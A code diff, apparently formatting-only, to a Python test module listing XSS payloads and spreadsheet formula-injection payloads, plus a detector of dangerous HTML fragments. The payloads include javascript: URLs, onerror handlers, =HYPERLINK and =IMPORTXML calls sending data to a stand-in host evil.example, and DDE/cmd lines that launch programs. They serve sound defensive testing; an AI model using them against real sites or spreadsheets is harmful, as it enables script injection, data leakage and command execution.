@@ -5,6 +5,7 @@ another user's browser. ``FORMULA_PAYLOADS``: text a spreadsheet would take as a
 Each XSS payload sets ``window.__xss`` (or calls ``alert``) if it ever runs, so a browser test can
 render them all and check nothing ran.
 """
+
 from __future__ import annotations
 
 import re
@@ -50,7 +51,7 @@ XSS_PAYLOADS: tuple[str, ...] = (
     f'<math><mtext><table><mglyph><style><img src=x onerror="{HIT}">',
     # raw HTML containers
     f'<iframe src="javascript:{HIT}"></iframe>',
-    f"<iframe srcdoc=\"<script>parent.{HIT}</script>\"></iframe>",
+    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
     f'<object data="javascript:{HIT}"></object>',
     f'<embed src="javascript:{HIT}">',
     f'<form action="javascript:{HIT}"><button>gửi</button></form>',
@@ -71,14 +72,39 @@ XSS_PAYLOADS: tuple[str, ...] = (
     f"{{{{ 7*7 }}}}<script>{HIT}</script>",
     # Markdown attribute lists and headings carrying HTML
     f'# Tiêu đề <img src=x onerror="{HIT}">',
-    f"[liên kết](https://example.org \"\" onmouseover=\"{HIT}\")",
+    f'[liên kết](https://example.org "" onmouseover="{HIT}")',
     f'Đoạn văn {{: onclick="{HIT}" }}',
 )
 
-EXECUTABLE_TAGS = {"script", "iframe", "object", "embed", "base", "meta", "link", "style",
-                   "svg", "math", "frame", "frameset", "applet", "template", "noscript"}
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster",
-                  "srcdoc", "srcset"}
+EXECUTABLE_TAGS = {
+    "script",
+    "iframe",
+    "object",
+    "embed",
+    "base",
+    "meta",
+    "link",
+    "style",
+    "svg",
+    "math",
+    "frame",
+    "frameset",
+    "applet",
+    "template",
+    "noscript",
+}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "data",
+    "xlink:href",
+    "background",
+    "poster",
+    "srcdoc",
+    "srcset",
+}
 _SAFE_URL = re.compile(r"^(https?:|mailto:|[^:]*$|[^:]*[/?#])", re.I)
 
 
@@ -114,16 +140,16 @@ def dangerous_fragments(html: str) -> list[str]:
 
 FORMULA_PAYLOADS: tuple[str, ...] = (
     "=1+1",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Bấm vào\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào")',
     "=cmd|' /C calc'!A0",
     "+1+1",
     "-1+1",
     "@SUM(1,1)",
     "\t=1+1",
     "\r=1+1",
-    "=IMPORTXML(\"http://evil.example\",\"//a\")",
+    '=IMPORTXML("http://evil.example","//a")',
     "-2+3+cmd|' /C notepad'!'A1'",
-    "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
     "+Nguyễn Văn =1",
 )
 
